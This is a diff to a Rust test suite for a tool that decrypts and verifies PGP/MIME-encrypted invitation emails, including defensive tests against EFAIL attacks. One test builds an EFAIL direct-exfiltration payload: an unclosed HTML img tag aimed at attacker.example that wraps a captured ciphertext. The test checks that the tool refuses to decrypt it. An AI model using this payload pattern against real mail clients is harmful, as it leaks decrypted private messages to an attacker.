@@ -56,6 +56,13 @@ impl Gpg {
 
     /// Run gpg; panics (the test fails) when gpg is missing or fails.
     pub fn run(&self, args: &[&str], stdin: &[u8]) -> Vec<u8> {
+        let (success, stdout, stderr) = self.output(args, stdin);
+        assert!(success, "gpg {args:?} failed: {stderr}");
+        stdout
+    }
+
+    /// Run gpg: whether it succeeded, its output and its diagnostics.
+    pub fn output(&self, args: &[&str], stdin: &[u8]) -> (bool, Vec<u8>, String) {
         let mut child = Command::new("gpg")
             .arg("--homedir")
             .arg(self.home.path())
@@ -80,12 +87,11 @@ impl Gpg {
         });
         let output = child.wait_with_output().unwrap();
         writer.join().unwrap();
-        assert!(
+        (
             output.status.success(),
-            "gpg {args:?} failed: {}",
-            String::from_utf8_lossy(&output.stderr)
-        );
-        output.stdout
+            output.stdout,
+            String::from_utf8_lossy(&output.stderr).into_owned(),
+        )
     }
 
     /// Make a key for `user_id` at `time` with `algorithm` (`ed25519`, `rsa2048`, ...) and
@@ -638,4 +644,320 @@ fn without_openpgp_certificates_a_pgp_signature_is_untrusted() {
     let root = common::root_ca();
     let (json, status) = verify(&message, &["--trust", root.to_str().unwrap()]);
     assert_rejected(&json, status, "untrusted-certificate");
+}
+
+/// `gpg --enarmor` output as an OpenPGP message armor without checksum (RFC 9580 §6.2 makes
+/// it optional), so that a changed binary message still has valid armor.
+fn armor_message(binary: &[u8], gpg: &Gpg) -> Vec<u8> {
+    let armored = String::from_utf8(gpg.run(&["--enarmor"], binary)).unwrap();
+    let base64: Vec<&str> = armored
+        .lines()
+        .skip_while(|line| !line.is_empty())
+        .skip(1)
+        .take_while(|line| !line.starts_with('=') && !line.starts_with("-----"))
+        .collect();
+    format!(
+        "-----BEGIN PGP MESSAGE-----\n\n{}\n-----END PGP MESSAGE-----\n",
+        base64.join("\n")
+    )
+    .into_bytes()
+}
+
+/// The attendee's decryption key, exported from GnuPG.
+fn attendee_key(cast: &Cast) -> PathBuf {
+    cast.gpg
+        .export_secret(ATTENDEE, cast._dir.path(), "attendee", "")
+}
+
+fn decrypting(cast: &Cast, key: &Path, message: &[u8]) -> (serde_json::Value, i32) {
+    verify(
+        message,
+        &[
+            "--openpgp-certs",
+            cast.certs(),
+            "--openpgp-identity",
+            key.to_str().unwrap(),
+        ],
+    )
+}
+
+/// RFC 3156 §6.1: sign (PGP/MIME), then encrypt the signed entity.
+#[test]
+fn a_signed_then_encrypted_request_is_decrypted_and_accepted() {
+    let cast = Cast::new();
+    let signed = pgp_signed(
+        &cast.gpg,
+        ORGANIZER,
+        &request_entity(),
+        "SHA256",
+        "pgp-sha256",
+    );
+    let encrypted = cast.gpg.encrypt(ATTENDEE, None, &signed);
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_eq!(status, 0, "{json:#}");
+    let layers = json["layers"].as_array().unwrap();
+    assert_eq!(layers[0]["kind"], "pgp-encrypted", "{json:#}");
+    assert_eq!(layers[0]["status"], "decrypted");
+    assert_eq!(layers[0]["authenticated"], true);
+    assert_eq!(layers[1]["kind"], "pgp-signed");
+    assert_eq!(layers[1]["status"], "verified");
+    assert_eq!(layers[1]["signers"][0]["emails"][0], ORGANIZER);
+}
+
+/// RFC 3156 §6.2: signed and encrypted in one OpenPGP message (`gpg --sign --encrypt`).
+#[test]
+fn a_signed_and_encrypted_openpgp_message_is_accepted() {
+    let cast = Cast::new();
+    let encrypted = cast
+        .gpg
+        .encrypt(ATTENDEE, Some(ORGANIZER), &request_entity());
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_eq!(status, 0, "{json:#}");
+    let layers = json["layers"].as_array().unwrap();
+    assert_eq!(layers[0]["kind"], "pgp-encrypted", "{json:#}");
+    assert_eq!(layers[1]["kind"], "pgp-signed");
+    assert_eq!(layers[1]["status"], "verified");
+    assert_eq!(layers[1]["signers"][0]["emails"][0], ORGANIZER);
+}
+
+/// §6.2 signed by someone the operator does not vouch for: the signature layer fails.
+#[test]
+fn a_signed_and_encrypted_message_by_an_unknown_signer_is_rejected() {
+    let cast = Cast::new();
+    let encrypted = cast
+        .gpg
+        .encrypt(ATTENDEE, Some(STRANGER), &request_entity());
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_rejected(&json, status, "untrusted-certificate");
+}
+
+/// Encryption alone authenticates nobody.
+#[test]
+fn an_encrypted_but_unsigned_request_is_unsigned() {
+    let cast = Cast::new();
+    let encrypted = cast.gpg.encrypt(ATTENDEE, None, &request_entity());
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_rejected(&json, status, "unsigned");
+    assert_eq!(json["layers"][0]["status"], "decrypted", "{json:#}");
+}
+
+/// Attack (EFAIL, CFB gadgets): a modified ciphertext must not yield plaintext; the MDC
+/// fails and the layer is one uniform decryption failure.
+#[test]
+fn a_modified_ciphertext_fails_the_integrity_check() {
+    let cast = Cast::new();
+    let signed = pgp_signed(
+        &cast.gpg,
+        ORGANIZER,
+        &request_entity(),
+        "SHA256",
+        "pgp-sha256",
+    );
+    let mut binary = cast.gpg.run(
+        &[
+            "--trust-model",
+            "always",
+            "--compress-algo",
+            "none",
+            "--recipient",
+            ATTENDEE,
+            "--encrypt",
+        ],
+        &signed,
+    );
+    // A byte in the middle of the encrypted data packet (the last packet).
+    let at = binary.len() - 200;
+    binary[at] ^= 0x01;
+    let armored = armor_message(&binary, &cast.gpg);
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&armored));
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_rejected(&json, status, "decryption-failed");
+    assert_eq!(json["layers"][0]["status"], "not-decrypted", "{json:#}");
+    assert_eq!(json["layers"].as_array().unwrap().len(), 1, "{json:#}");
+    // The unmodified message (same armor path) decrypts: the byte was the reason.
+    binary[at] ^= 0x01;
+    let armored = armor_message(&binary, &cast.gpg);
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&armored));
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_eq!(status, 0, "{json:#}");
+}
+
+/// Attack (EFAIL direct exfiltration): a captured ciphertext wrapped into attacker MIME is
+/// not decrypted.
+#[test]
+fn an_encrypted_part_that_is_not_the_root_is_not_decrypted() {
+    let cast = Cast::new();
+    let signed = pgp_signed(
+        &cast.gpg,
+        ORGANIZER,
+        &request_entity(),
+        "SHA256",
+        "pgp-sha256",
+    );
+    let encrypted = cast.gpg.encrypt(ATTENDEE, None, &signed);
+    let mut body = b"Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\n\
+        Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\n"
+        .to_vec();
+    body.extend_from_slice(&multipart_encrypted(&encrypted));
+    body.extend_from_slice(b"\r\n--outer--\r\n");
+    let message = with_headers(ORGANIZER, ATTENDEE, &body);
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_eq!(status, 1, "{json:#}");
+    assert!(
+        reasons(&json).contains(&"decryption-failed".to_owned()),
+        "{json:#}"
+    );
+    assert_eq!(json["layers"][0]["status"], "not-decrypted", "{json:#}");
+}
+
+#[test]
+fn a_message_for_someone_else_is_not_decrypted() {
+    let cast = Cast::new();
+    let encrypted = cast
+        .gpg
+        .encrypt(STRANGER, Some(ORGANIZER), &request_entity());
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
+    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
+    assert_rejected(&json, status, "decryption-failed");
+}
+
+/// The password of an OpenPGP identity comes from the same flags as an S/MIME identity's.
+#[test]
+fn a_protected_openpgp_identity_is_unlocked_with_the_identity_password() {
+    let gpg = Gpg::new();
+    let dir = tempfile::tempdir().unwrap();
+    gpg.generate(
+        &format!("Organizer <{ORGANIZER}>"),
+        "ed25519",
+        "never",
+        KEY_TIME,
+    );
+    gpg.run(
+        &[
+            "--faked-system-time",
+            KEY_TIME,
+            "--passphrase",
+            "correct horse",
+            "--quick-gen-key",
+            &format!("Attendee <{ATTENDEE}>"),
+            "ed25519",
+            "sign,cert",
+            "never",
+        ],
+        b"",
+    );
+    let attendee = gpg.fingerprint(ATTENDEE);
+    gpg.run(
+        &[
+            "--faked-system-time",
+            KEY_TIME,
+            "--passphrase",
+            "correct horse",
+            "--quick-add-key",
+            &attendee,
+            "cv25519",
+            "encr",
+            "never",
+        ],
+        b"",
+    );
+    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
+    let key = gpg.export_secret(ATTENDEE, dir.path(), "attendee", "correct horse");
+    let encrypted = gpg.encrypt(ATTENDEE, Some(ORGANIZER), &request_entity());
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
+    let password = dir.path().join("password");
+    std::fs::write(&password, "correct horse\n").unwrap();
+    let args = |password: &Path| {
+        vec![
+            "verify".to_owned(),
+            "--json".to_owned(),
+            "--at".to_owned(),
+            AT.to_owned(),
+            "--openpgp-certs".to_owned(),
+            certs.display().to_string(),
+            "--openpgp-identity".to_owned(),
+            key.display().to_string(),
+            "--password-file".to_owned(),
+            password.display().to_string(),
+        ]
+    };
+    let run = imipsec(args(&password), &message);
+    assert_eq!(
+        run.status,
+        0,
+        "{}{}",
+        String::from_utf8_lossy(&run.stdout),
+        run.stderr
+    );
+    // A wrong password is a configuration error (exit 2), not a silent decryption failure.
+    let wrong = dir.path().join("wrong");
+    std::fs::write(&wrong, "battery staple\n").unwrap();
+    let run = imipsec(args(&wrong), &message);
+    assert_eq!(run.status, 2, "{}", run.stderr);
+    assert!(run.stderr.contains("password"), "{}", run.stderr);
+}
+
+/// Attack (EFAIL): Symmetrically Encrypted Data without integrity protection (tag 9, what
+/// `gpg --rfc2440` still writes) is malleable: refused, while the same key and content under
+/// SEIPD (with MDC) decrypts.
+#[test]
+fn encryption_without_integrity_protection_is_refused() {
+    let gpg = Gpg::new();
+    let dir = tempfile::tempdir().unwrap();
+    gpg.generate(
+        &format!("Organizer <{ORGANIZER}>"),
+        "ed25519",
+        "never",
+        KEY_TIME,
+    );
+    // RSA: GnuPG writes tag 9 only for RSA recipients in --rfc2440 mode.
+    gpg.generate(
+        &format!("Attendee <{ATTENDEE}>"),
+        "rsa2048",
+        "never",
+        KEY_TIME,
+    );
+    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
+    let key = gpg.export_secret(ATTENDEE, dir.path(), "attendee", "");
+    let signed = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA256", "pgp-sha256");
+    let encrypt = |extra: &[&str]| {
+        let mut args = vec![
+            "--trust-model",
+            "always",
+            "--armor",
+            "--recipient",
+            ATTENDEE,
+        ];
+        args.extend_from_slice(extra);
+        args.push("--encrypt");
+        gpg.run(&args, &signed)
+    };
+    let flags = |message: &[u8]| {
+        verify(
+            message,
+            &[
+                "--openpgp-certs",
+                certs.to_str().unwrap(),
+                "--openpgp-identity",
+                key.to_str().unwrap(),
+            ],
+        )
+    };
+    let unprotected = encrypt(&["--rfc2440"]);
+    // GnuPG itself refuses to decrypt it ("decryption forced to fail"), but lists tag 9.
+    let (_, listing, _) = gpg.output(&["--list-packets"], &unprotected);
+    let listing = String::from_utf8(listing).unwrap();
+    assert!(listing.contains("tag=9"), "{listing}");
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&unprotected));
+    let (json, status) = flags(&message);
+    assert_rejected(&json, status, "decryption-failed");
+    assert_eq!(json["layers"].as_array().unwrap().len(), 1, "{json:#}");
+    let protected = encrypt(&[]);
+    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&protected));
+    let (json, status) = flags(&message);
+    assert_eq!(status, 0, "{json:#}");
 }
